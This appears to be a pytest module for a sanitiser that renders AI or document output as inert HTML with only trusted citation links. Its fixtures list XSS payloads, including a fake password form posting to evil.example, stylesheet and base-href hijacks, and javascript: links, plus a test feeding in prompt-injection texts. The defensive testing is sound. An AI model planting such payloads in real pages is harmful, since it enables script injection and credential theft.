"""Whatever a model or a document writes, HTML can only be read; citations come from the verifier alone."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from tests.support.examples import up_to
from tests.support.shared_data import shared_data
from tests.unit.console.pages import (
    ALLOWED,
    Elements,
    assert_inert,
    cited,
    referred,
    rendered,
    said,
)

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script over lines": "<script\n>\nalert(1)\n</script\n>",
    "handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1)></svg>",
    "svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    "style": "<style>*{display:none}</style>",
    "link": '<link rel=stylesheet href="https://evil.example/x.css">',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "object": "<object data=x></object><embed src=x>",
    "clobbering": "<a id=answer name=querySelector></a><form id=main><input name=innerHTML></form>",
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!-- <script>alert(1)</script> --> <![CDATA[x]]> <?php x ?> <!DOCTYPE html>",
    "unclosed": "<a href='x",
    "citation": '<sup><a class="cite" data-number="1" data-lines="1-2" href="/doc/x.md#L1-L2">[1]</a></sup>',
    "class": '<span class="host">(bank.example)</span> <div class="card">x</div>',
    "javascript link": "[x](javascript:alert(1))",
    "javascript, encoded": "[x](&#106;avascript:alert(1)) [x](java&Tab;script:alert(1)) [x](JaVaScRiPt:alert(1))",
    "javascript, spaced": "[x]( \x01javascript:alert(1)) [x](java\tscript:alert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=) [x](data:image/png;base64,AAAA)",
    "vbscript": "[x](vbscript:msgbox(1)) [x](file:///etc/passwd)",
    "autolink": "<javascript:alert(1)> <https://a.example/?q=<script>>",
    "relative": "[x](/doc/runbooks/a.md#L1-L2) [x](//evil.example) [x](../api/answers/1) [x](#main)",
    "image": '![x](https://evil.example/pixel.png "t") ![x](javascript:alert(1)) ![x][r]\n\n[r]: https://evil.example/y.png',
    "title": '[x](https://a.example "onclick=alert(1)") [x](https://a.example \'"><script>\')',
    "attribute": '[x](https://a.example/"onmouseover="alert(1)) [x](<https://a.example/ onclick=alert(1)>)',
    "definition": '[Source 1]: https://evil.example "x"\n\n[Source 1] [a][Source 1]',
    "fence language": '```"><script>alert(1)</script>\nx\n```\n\n```cite host\nx\n```\n\n~~~ language-x" onclick="\nx\n~~~',
    "code": "`<script>alert(1)</script>` ``` <img onerror=x> ```",
    "table": '| <b onclick=x> | [a](javascript:x) |\n|:-:|--:|\n| <script> | "style=x |',
    "heading": "# <h1 id=main>x</h1> {#main .cite onclick=x}",
    "list": '10000000000. x\n1" onclick="x. y\n- [ ] task\n- [x] <input type=checkbox>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &#xE000;0&#xE001; &nbsp;",
    "marks": "\ue0000\ue001 [\ue0000\ue001] \ue000\ue001 [\ue00000\ue001] \ue000999999\ue001",
    "marks, encoded": "<https://a.example/%EE%80%800%EE%80%81> [x](https://a.example/%EE%80%800%EE%80%81)",
    "marks in code": "`[\ue0000\ue001]` \n\n    \ue0000\ue001\n\n```\n\ue0000\ue001\n```",
    "marks in a link": '[\ue0000\ue001](https://a.example/\ue0000\ue001 "\ue0000\ue001")',
    "credentials": "[log in](https://bank.example@evil.example/) [x](https://bank.example:443@evil.example)",
    "nulls": "<scr\0ipt>alert(1)</scr\0ipt> \0",
    "bidi": "run \u202egnp.exe\u202c and \u2066x\u2069",
    "nesting": "> " * 200
    + "x\n"
    + "- " * 200
    + "y\n"
    + "[" * 500
    + "z"
    + "](https://a.example)" * 500,
    "emphasis": "*a **b _c_ " * 200,
}


PIECES = [
    "<", ">", '"', "'", "`", "```", "\n", "\n\n", "|", "|-|\n", "* ", "1. ", "> ", "#", "[", "]",
    "(", ")", "![", "\\", "    ", "\t", "~~", "**", "_", "&lt;", "&#x3c;", "\0", "\ue000",
    "\ue001", "0", "http://a.b/", "<http://x.y/", "javascript:", "<script>", "</script>", "<svg>",
    "<math>", "<style>", "<!--", "-->", "<![CDATA[", "onerror=", "class=cite", "<a href=",
    "<img src=x ", "</p>", "</a>", "<table>", "<template>", "<noscript>", "<textarea>",
    "<plaintext>", "\u202e",
]  # fmt: skip


def texts():
    """Give texts of pieces that mean something to a parser of Markdown or of HTML."""
    return st.lists(st.sampled_from(PIECES), max_size=30).map("".join)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_is_only_read(text):
    assert_inert(rendered(said(text)))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_reference_beside_hostile_text_is_the_only_citation(text):
    for parts in (
        [said(text), referred(), said("\n" + text)],
        [said(text + " "), referred(), said(" " + text)],
        [said("- a "), referred(), said("\n" + text)],
    ):
        page = assert_inert(rendered(*parts), cites=None)
        assert all(cite["data-lines"] == "5-10" for cite in page.cites)
        # a link; or, where the text around it has become code, its own words
        written = page.text.count("[Source 1]") - sum(
            part["text"].count("[Source 1]") for part in parts if "citations" not in part
        )
        assert len(page.cites) + written == 1


@given(texts())
@up_to(examples=300)
def test_whatever_is_written_a_browsers_parser_finds_nothing_but_text_and_our_links(text):
    half = len(text) // 2
    html = rendered(said(text[:half] + " "), referred(), said(" " + text[half:]))
    page = LexborHTMLParser(f"<!doctype html><body><div>{html}</div>")
    cites = 0
    for element in page.css("body div *"):
        assert set(element.attributes) <= ALLOWED[element.tag]
        if element.tag == "a" and "data-number" in element.attributes:
            cites += 1
        elif element.tag == "a":
            assert element.attributes["href"].startswith(("http://", "https://"))
    assert cites == 1 or "[Source 1]" in page.body.text()


def test_injected_instructions_of_others_are_only_read():
    path = shared_data("injection/injection.jsonl")
    texts = [json.loads(line) for line in path.read_text().split("\n") if line]
    assert len(texts) >= 80
    for one in texts:
        written = (
            json.dumps(one) if not isinstance(one, dict) else "\n\n".join(map(str, one.values()))
        )
        assert_inert(rendered(said(written), said("\n\n"), referred()), cites=1)


def test_a_reference_links_to_the_very_lines_and_says_so():
    html = rendered(
        said("Promote it "),
        referred("[Source: runbooks/a b.md, lines 5-10]", cited(3, 'runbooks/a b".md')),
    )
    (cite,) = assert_inert(html, cites=1).cites
    assert cite == {
        "class": "cite",
        "data-number": "3",
        "data-lines": "5-10",
        "href": "/doc/runbooks/a%20b%22.md#L5-L10",
        "aria-label": '[3] runbooks/a b".md, lines 5-10',
    }


def test_a_reference_to_several_sources_gives_each_its_link():
    page = assert_inert(
        rendered(referred("[Source 1, 2]", cited(1), cited(2, start=7, end=7))), cites=2
    )
    assert [(cite["data-number"], cite["data-lines"]) for cite in page.cites] == [
        ("1", "5-10"),
        ("2", "7-7"),
    ]


def test_a_reference_works_in_a_heading_a_list_a_table_a_quote_and_emphasis():
    for before, after in (
        ("# a ", ""),
        ("1. a ", "\n2. b"),
        ("| a | b |\n|---|---|\n| c ", " | d |"),
        ("> a ", "\n> b"),
        ("**a ", "** b"),
        ("_a_", " b"),
        ("**a**", ". b"),
    ):
        html = rendered(said(before), referred(), said(after))
        assert_inert(html, cites=1)
        assert "Source 1" not in html


def test_a_reference_in_what_markdown_reads_as_code_is_shown_as_it_was_written():
    for before, after in (("`a ", " b`"), ("```\na ", "\n```\n"), ("    a ", "\n")):
        page = assert_inert(rendered(said(before), referred("[Source 1]"), said(after)))
        assert "a [Source 1]" in page.text


def test_a_reference_that_markdown_takes_for_a_links_title_stands_behind_the_block():
    html = rendered(said("[a](https://a.example '"), referred(), said("') b"))
    assert_inert(html, cites=1)


def test_an_image_is_a_link_to_it_and_an_address_with_a_name_in_it_is_none():
    page = assert_inert(rendered(said("![the chart](https://a.example/p.png)")))
    assert page.text == "!the chart (a.example)\n"
    page = assert_inert(rendered(said("[log in](https://bank.example@evil.example/)")))
    assert page.named("a") == []


def test_a_link_to_nowhere_is_its_words():
    assert rendered(said("a [b]() c []()")) == "<p>a b c </p>\n"


def test_a_link_says_where_it_leads():
    page = assert_inert(
        rendered(said("[our bank](https://evil.example/login) <https://münchen.example/a>"))
    )
    assert "our bank (evil.example)" in page.text
    assert "(xn--mnchen-3ya.example)" in page.text


def test_a_command_keeps_its_language_and_every_character():
    page = assert_inert(rendered(said('```bash\naws s3 ls <bucket> && echo "a"  \n\ttab\n```\n')))
    assert page.named("code") == [{"class": "language-bash"}]
    assert 'aws s3 ls <bucket> && echo "a"  \n\ttab\n' in page.text


def test_what_hides_or_turns_the_order_of_words_is_shown_by_its_code():
    page = assert_inert(rendered(said("run \u202egnp.exe `a\u200bb`")))
    assert "run \\u202egnp.exe a\\u200bb" in page.text


@pytest.mark.parametrize(
    ("paragraph", "is_one"),
    [
        ("**Guidance:**", True),
        ("Next steps:", True),
        ("Delete all steps:", False),
        ("Summary: reboot it.", False),
        ("Steps\nreboot it", False),
    ],
)
def test_a_paragraph_that_names_a_part_of_the_answer_is_told_from_one_that_says_something(
    paragraph, is_one
):
    page = Elements(rendered(said(f"{paragraph}\n\n- a\n")))
    assert page.named("p") == [{"class": "label"} if is_one else {}]
